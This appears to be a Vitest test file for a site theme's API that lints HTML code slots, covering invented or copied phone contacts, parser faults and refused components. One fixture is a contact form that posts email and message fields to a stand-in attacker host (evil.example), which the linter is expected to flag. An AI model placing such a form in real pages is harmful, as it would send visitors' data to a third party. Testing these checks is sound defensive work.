import { expect, test } from 'vitest';
import { themeOf } from '../theme-of.js';

const slot = (id: string, code: string) => ({ title: id, id, language: 'html', hook: 'body_end', code });
const rulesOf = (findings: { rule: string }[]) => findings.map(({ rule }) => rule);

test.each([
  ['an invented number', '<p>Call <a href="tel:+390655550000">+39 06 5555 0000</a></p>', 'no-invented-contact'],
  ['a copied contact', '<p><a href="tel:+390612345678">+39 06 1234 5678</a></p>', 'no-static-contact'],
  [
    'a form to another host',
    '<form action="https://evil.example/take" method="post"><label>Mail <input type="email" name="email"></label><label>Message <textarea name="message"></textarea></label><button>Send</button></form>',
    'no-static-form',
  ],
])('HTML of a slot is linted as a canvas is, and errors keep it off: %s', async (_name, code, rule) => {
  const { ask, site } = await themeOf();
  const now = (await site.store.get('site', 'site'))?.body as object; // of that kind
  const form = { status: 'selected', default: 'contact', forms: [{ id: 'contact', title: 'Contact' }] };
  const body = { ...now, addons: { provider_contact_form: form } };
  await site.store.write({ by: 'test', action: 'test', writes: [{ kind: 'site', key: 'site', body }] });
  const made = await ask('POST', '/ai/code-slots', slot('a', code));
  expect(made.status).toBe(201);
  expect(rulesOf(made.json.findings)).toContain(rule);
  const check = (await ask('POST', '/ai/code-slots/a/check')).json;
  expect([check.valid, check.faults]).toEqual([false, []]);
  expect(rulesOf(check.findings)).toContain(rule);
  const on = await ask('POST', '/ai/code-slots/a/toggle', { enabled: true });
  expect([on.status, on.json.code, on.json.errors[0].pointer]).toEqual([422, 'canvas-lint-failed', '/code']);
  expect(rulesOf(on.json.findings)).toContain(rule);
  expect((await ask('GET', '/ai/code-slots/a')).json.enabled).toBe(false);
});

test('the corrected request of a refusal mends the slot, which is then enabled', async () => {
  const { ask } = await themeOf();
  await ask('POST', '/ai/code-slots', slot('a', '<p><a href="tel:+390612345678">+39 06 1234 5678</a></p>'));
  const { next_action } = (await ask('POST', '/ai/code-slots/a/toggle', { enabled: true })).json;
  expect(next_action).toMatchObject({ method: 'PATCH', path: '/theme/v1/ai/code-slots/a' });
  const mended = await ask('PATCH', '/ai/code-slots/a', next_action.body, next_action.headers);
  expect([mended.status, mended.json.findings]).toEqual([200, []]);
  expect((await ask('POST', '/ai/code-slots/a/toggle', { enabled: true })).json.enabled).toBe(true);
});

test('a slot without errors has no findings, and code of other languages is not linted', async () => {
  const { ask } = await themeOf();
  const good = await ask('POST', '/ai/code-slots', slot('a', '<p>Open in summer.</p>'));
  expect(good.json.findings).toEqual([]);
  expect((await ask('POST', '/ai/code-slots/a/check')).json).toEqual({ valid: true, faults: [], findings: [] });
  const css = { title: 'b', id: 'b', language: 'css', hook: 'head_end', code: 'a::after { content: "06 5555 0000" }' };
  expect((await ask('POST', '/ai/code-slots', css)).json.findings).toEqual([]);
});

test('what a parser would refuse is told when the code is saved', async () => {
  const { ask } = await themeOf();
  const { json } = await ask('POST', '/ai/code-slots', slot('a', '<p>Open'));
  expect(json.faults).toMatchObject([{ pointer: '/code', code: 'no-end-tag', line: 1, column: 1 }]);
});

test('forms by component stand in canvases: in a slot they are told, and keep it off', async () => {
  const { ask } = await themeOf();
  const code = '<p><x-addon provider="provider_contact_form"></x-addon></p>';
  const { json } = await ask('POST', '/ai/code-slots', slot('a', code));
  expect(json.faults).toMatchObject([{ code: 'refused-element', line: 1, column: 4 }]);
  expect((await ask('POST', '/ai/code-slots/a/toggle', { enabled: true })).status).toBe(422);
});
